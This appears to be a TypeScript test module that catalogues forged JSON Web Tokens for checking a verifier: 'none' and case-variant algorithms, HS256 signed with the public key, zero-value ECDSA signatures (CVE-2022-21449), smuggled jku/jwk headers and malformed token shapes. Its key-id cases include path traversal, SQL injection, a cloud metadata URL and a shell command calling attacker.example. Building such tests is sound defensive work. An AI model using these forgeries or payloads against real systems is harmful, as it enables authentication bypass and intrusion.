import { type Attack, claims, corpTokens, headers, tokens } from "./attack.ts"
import { CLAIM_ATTACKS } from "./attacks-claims.ts"
import { KEY_ATTACKS, otherwise } from "./attacks-keys.ts"
import { hmacSigner, signer } from "./forge.ts"
import type { WhoWorld } from "./who-world.ts"

const pemOf = ({ corp }: WhoWorld): string =>
  corp.publicKey.export({ type: "spki", format: "pem" }).toString()
const derOf = ({ corp }: WhoWorld): Buffer => corp.publicKey.export({ type: "spki", format: "der" })
const unsigned = () => Buffer.alloc(0)

const algorithm: Attack[] = [
  ...corpTokens("Algorithm", {
    "none, without a signature": { header: { alg: "none" }, sign: unsigned },
    "none, with the right signature": { header: { alg: "none" } },
    "None, spelt otherwise": { header: { alg: "None" } },
    "nOnE, spelt otherwise": { header: { alg: "nOnE" } },
    "the empty name": { header: { alg: "" } },
    "no name": { header: { alg: undefined } },
    null: { header: { alg: null } },
    "a list of names": { header: { alg: ["RS256"] } },
    "a number": { header: { alg: 256 } },
    "rs256 in lower case": { header: { alg: "rs256" } },
    "the right name and a blank": { header: { alg: "RS256 " } },
    "a member of Object's prototype": { header: { alg: "constructor" } },
    "HS256 with the public key as PEM": (world) => ({
      header: { alg: "HS256" },
      sign: hmacSigner(pemOf(world)),
    }),
    "HS256 with the PEM without its last line feed": (world) => ({
      header: { alg: "HS256" },
      sign: hmacSigner(pemOf(world).trim()),
    }),
    "HS256 with the public key as DER": (world) => ({
      header: { alg: "HS256" },
      sign: hmacSigner(derOf(world)),
    }),
    "HS256 with the public key as JWK": (world) => ({
      header: { alg: "HS256" },
      sign: hmacSigner(JSON.stringify(world.corp.jwk)),
    }),
    "HS256 with the modulus": (world) => ({
      header: { alg: "HS256" },
      sign: hmacSigner(Buffer.from(world.corp.jwk.n as string, "base64url")),
    }),
    "HS256 with the empty secret": { header: { alg: "HS256" }, sign: hmacSigner("") },
    "RS256 by name, HMAC in fact": (world) => ({ sign: hmacSigner(pemOf(world)) }),
    "PS256 for RS256, rightly signed": ({ corp }) => ({
      header: { alg: "PS256" },
      sign: signer("PS256", corp.key),
    }),
    "RS256 by name, PS256 in fact": ({ corp }) => ({ sign: signer("PS256", corp.key) }),
    "RS384 for RS256, rightly signed": ({ corp }) => ({
      header: { alg: "RS384" },
      sign: signer("RS384", corp.key),
    }),
    "ES256 with another issuer's key": ({ partner }) => ({
      header: { alg: "ES256", kid: partner.jwk.kid },
      sign: signer("ES256", partner.key),
    }),
    "EdDSA with another issuer's key": ({ ops }) => ({
      header: { alg: "EdDSA", kid: ops.jwk.kid },
      sign: signer("EdDSA", ops.key),
    }),
    "RS256 with an attacker's key": ({ partner }) => ({ sign: signer("ES256", partner.key) }),
    "RS256 by name, SHA-1 in fact": ({ corp }) => ({ sign: signer("RS1", corp.key) }),
    "no signature": { sign: unsigned },
    "a signature of zeros": { sign: () => Buffer.alloc(256) },
    "a signature cut short": ({ corp }) => ({
      sign: (data) => signer("RS256", corp.key)(data).subarray(0, 255),
    }),
    "a signature with a byte more": ({ corp }) => ({
      sign: (data) => Buffer.concat([signer("RS256", corp.key)(data), Buffer.alloc(1)]),
    }),
  }),
  ...tokens("Algorithm", {
    "ES256 with r and s of nought (CVE-2022-21449)": ({ partner }) =>
      partner.token({ claims: { tenant: "globex" }, sign: () => Buffer.alloc(64) }),
    "EdDSA with a signature of nought": ({ ops }) => ops.token({ sign: () => Buffer.alloc(64) }),
  }),
]

const keyId: Attack[] = headers("Key id", {
  none: { kid: undefined },
  "a number": { kid: 1 },
  "a list": { kid: ["rsa-1"] },
  "the empty one": { kid: "" },
  "one that is not known": { kid: "rsa-2" },
  "another case": { kid: "RSA-1" },
  "with a blank": { kid: " rsa-1" },
  "with a line feed": { kid: "rsa-1\n" },
  "another issuer's": { kid: "ec-1" },
  "a path to an empty file": { kid: "../../../../dev/null" },
  "a path of Windows": { kid: "..\\..\\keys\\rsa-1" },
  "a URL": { kid: "https://attacker.example/jwks.json" },
  "a file's URL": { kid: "file:///etc/passwd" },
  "a metadata service": { kid: "http://169.254.169.254/latest/meta-data" },
  SQL: { kid: "rsa-1' UNION SELECT 'key' --" },
  "a shell command": { kid: "rsa-1; curl attacker.example" },
  "a template": { kid: "{{rsa-1}}" },
  "`__proto__`": { kid: "__proto__" },
  constructor: { kid: "constructor" },
  "of 5,000 characters": { kid: "k".repeat(5_000) },
})

const smuggled: Attack[] = [
  ...corpTokens(
    "Smuggled key",
    Object.fromEntries(
      ["jku", "x5u", "jwk", "x5c"].flatMap((name) => [
        [
          `\`${name}\` beside the right key`,
          ({ server, corp }: WhoWorld) => ({
            header: {
              [name]: name === "jwk" ? corp.jwk : name === "x5c" ? ["MII="] : `${server.url}/corp/keys`,
            },
          }),
        ],
        [
          `\`${name}\` with an attacker's own key`,
          ({ server, partner }: WhoWorld) => ({
            header: {
              kid: undefined,
              [name]: name === "jwk" ? partner.jwk : name === "x5c" ? ["MII="] : `${server.url}/partner/keys`,
            },
            sign: signer("ES256", partner.key),
          }),
        ],
      ]),
    ),
  ),
  ...headers("Smuggled key", {
    "`crit` with what nobody knows": { crit: ["surprise"], surprise: true },
    "`crit` with nothing": { crit: [] },
    "`crit` that names exp": { crit: ["exp"], exp: 1 },
    "`b64` false": { b64: false },
    "`b64` false and critical": { b64: false, crit: ["b64"] },
    "`zip`": { zip: "DEF" },
    "`cty` of a nested token": { cty: "JWT" },
    "`enc`": { enc: "A256GCM" },
    "`epk`": { epk: {} },
  }),
  ...headers("Token for something else", {
    "a reader token's type": { typ: "hotswap-reader+jwt" },
    "a logout token": { typ: "logout+jwt" },
    "a proof of possession": { typ: "dpop+jwt" },
    "a security event": { typ: "secevent+jwt" },
    "an encrypted one": { typ: "JWE" },
    "a list of types": { typ: ["JWT"] },
    "no type": { typ: "" },
  }),
  ...claims("Token for something else", {
    "bound to a key (RFC 7800)": { cnf: { jkt: "0ZcOCORZNYy-DWpqq30jZyJGHTN0d2HglBV3uiguA4I" } },
    "bound to a certificate": { cnf: { "x5t#S256": "bwcK0esc3ACC3DB2Y5_lESsXE8o9ltc05O89jdN-dg2" } },
  }),
]

const resigned = (world: WhoWorld, header: string, payload: string): string =>
  world.corp.build(header, payload)
const usual = ({ corp }: WhoWorld): [string, string] => [
  JSON.stringify(corp.usualHeader),
  JSON.stringify(corp.usualClaims()),
]
const good = ({ corp }: WhoWorld): [string, string, string] =>
  corp.token().split(".") as [string, string, string]
const withHeader = (alter: (text: string) => string) => (world: WhoWorld) => {
  const [header, payload] = usual(world)
  return resigned(world, alter(header), payload)
}
const withPayload = (alter: (text: string) => string) => (world: WhoWorld) => {
  const [header, payload] = usual(world)
  return resigned(world, header, alter(payload))
}
const doubled = (member: string) => (text: string) => `{${member},${text.slice(1)}`

const shape: Attack[] = tokens("Shape", {
  "`alg` twice, none first": withHeader(doubled('"alg":"none"')),
  "`alg` twice, none last": withHeader((text) => `${text.slice(0, -1)},"alg":"none"}`),
  "`kid` twice": withHeader(doubled('"kid":"other"')),
  "`alg` twice, once in escapes": withHeader(doubled('"\\u0061lg":"none"')),
  "`iss` twice": withPayload(doubled('"iss":"https://ops.example"')),
  "`tenant` twice": withPayload(doubled('"tenant":"globex"')),
  "`roles` twice": withPayload((text) => `${text.slice(0, -1)},"roles":["tenant_admin"]}`),
  "`exp` twice": withPayload(doubled('"exp":9999999999')),
  "a header that is a list": withHeader((text) => `[${text}]`),
  "a header that is null": withHeader(() => "null"),
  "a header that is not JSON": withHeader((text) => text.replaceAll('"', "'")),
  "a header with a comment": withHeader((text) => `${text}/* */`),
  "a header after a byte order mark": withHeader((text) => `\ufeff${text}`),
  "a header nested 100 deep": withHeader(
    (text) => `${text.slice(0, -1)},"x":${"[".repeat(100)}${"]".repeat(100)}}`,
  ),
  "a header with half a surrogate pair": withHeader((text) => `${text.slice(0, -1)},"x":"\\ud800"}`),
  "a header with NUL": withHeader((text) => `${text.slice(0, -1)},"x":"\\u0000"}`),
  "a payload that is a list": withPayload((text) => `[${text}]`),
  "a payload that is a string": withPayload((text) => JSON.stringify(text)),
  "a payload that is a token": (world) => resigned(world, usual(world)[0], world.corp.token()),
  "a payload that is not JSON": withPayload(() => "tenant=acme"),
  "a payload that is empty": withPayload(() => ""),
  "a payload in UTF-16": (world) => {
    const [header, payload] = usual(world)
    const data = `${Buffer.from(header).toString("base64url")}.${Buffer.from(payload, "utf16le").toString("base64url")}`
    return `${data}.${signer("RS256", world.corp.key)(data).toString("base64url")}`
  },
  "two parts": (world) => good(world).slice(0, 2).join("."),
  "two parts and a dot": (world) => `${good(world).slice(0, 2).join(".")}.`,
  "four parts": (world) => `${good(world).join(".")}.${good(world)[2]}`,
  "five parts, as an encrypted one has": (world) => `${good(world).join(".")}.AAAA.AAAA`,
  "the JSON serialisation": (world) => {
    const [header, payload, signature] = good(world)
    return JSON.stringify({ payload, protected: header, signature })
  },
  "another token's payload": (world) => {
    const [header, , signature] = good(world)
    const other = world.corp.token({ claims: { roles: ["tenant_admin"] } }).split(".")[1]
    return `${header}.${other}.${signature}`
  },
  padding: (world) => `${good(world).join(".")}==`,
  "the other alphabet of base64": (world) => {
    const [header, payload, signature] = good(world)
    return `${header}.${payload}+/.${signature}`
  },
  "bits in the payload that no byte has": (world) => {
    const [header, payload] = good(world)
    // A letter more alone carries six bits: no byte.
    const odd = payload.length % 4 === 0 ? `${payload}A` : otherwise(payload)
    const data = `${header}.${odd}`
    return `${data}.${signer("RS256", world.corp.key)(data).toString("base64url")}`
  },
  "a blank in the middle": (world) => good(world).join(". "),
  "a percent sign for a dot": (world) => good(world).join("%2E"),
  "a dot that is none (U+3002)": (world) => good(world).join("\u3002").replaceAll("\u3002", "%E3%80%82"),
  "a million characters": (world) => world.corp.token({ claims: { more: "x".repeat(750_000) } }),
  "9,000 characters": (world) => world.corp.token({ claims: { more: "x".repeat(9_000) } }),
})

/** Forged tokens: what the bytes say and how they are signed. */
export const JWT_ATTACKS: readonly Attack[] = [
  ...algorithm,
  ...KEY_ATTACKS,
  ...keyId,
  ...smuggled,
  ...shape,
  ...CLAIM_ATTACKS,
]
